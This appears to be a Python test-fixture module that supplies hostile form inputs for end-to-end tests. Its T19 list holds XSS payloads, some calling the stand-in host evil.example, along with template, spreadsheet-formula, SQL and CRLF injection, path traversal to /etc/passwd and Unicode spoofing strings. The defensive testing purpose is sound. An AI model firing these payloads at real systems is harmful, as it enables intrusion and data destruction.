"""Text that has broken programs: the 485 strings of `blns`, those of SAFETY T19, and more that matter here."""

import json
from collections.abc import Callable
from pathlib import Path

from studio.cleaning import clean_text

BLNS: list[str] = json.loads(
    (Path(__file__).parent / "e2e" / "vendor" / "blns.json").read_text(encoding="utf-8")
)

T19 = [
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png onerror=window.pwned=1>",
    '"><script>window.pwned=1</script><svg onload=window.pwned=1>',
    "' autofocus onfocus='window.pwned=1' x='",
    "--><style>*{background:url(//evil.example/x)}</style><!--",
    "</textarea></select></template><base href=//evil.example/>",
    "</title><script>alert(1)</script>",
    "{{7*7}}",
    '" hx-get="https://evil.example/" hx-trigger="load',
    "javascript:alert(1)",
    '0;url=//evil.example" http-equiv="refresh',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1",
    "{% debug %}",
    "'; DROP TABLE studio_user; --",
    "\r\nSet-Cookie: a=b",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "\u2028line\u2029paragraph",
    "\ufeff\u200b\u00ad",
    "a" * 2_000,
    "🏳️‍🌈" * 40,
    "Z̸̢̛̺̦͖̿a̷̛̺l̸g̷o" * 20,
    "../../../etc/passwd",
    "\\u0000",
]

TEXTS = [*T19, *BLNS]

MARK = "pwned"
"""What a payload that runs would leave in `window`."""

Texts = Callable[[int], list[str]]
"""How long at most → the texts of a field, which all differ: `bundles` or `harmless`."""


def bundles(length: int) -> list[str]:
    """Return all of TEXTS as forms let them in, packed into strings of at most so many characters."""
    packed: list[str] = []
    for text in filter(None, (clean_text(text).strip()[:length] for text in TEXTS)):
        if packed and len(packed[-1]) + len(text) + 3 <= length:
            packed[-1] += f" ~ {text}"
        else:
            packed.append(text)
    return list(dict.fromkeys(packed))


def harmless(length: int) -> list[str]:
    """Return as many strings as `bundles` does, as long, of letters alone."""
    rows = enumerate(bundles(length))
    return [f"Lake {number} ".ljust(len(text), "o")[: max(len(text), 9)].strip() for number, text in rows]
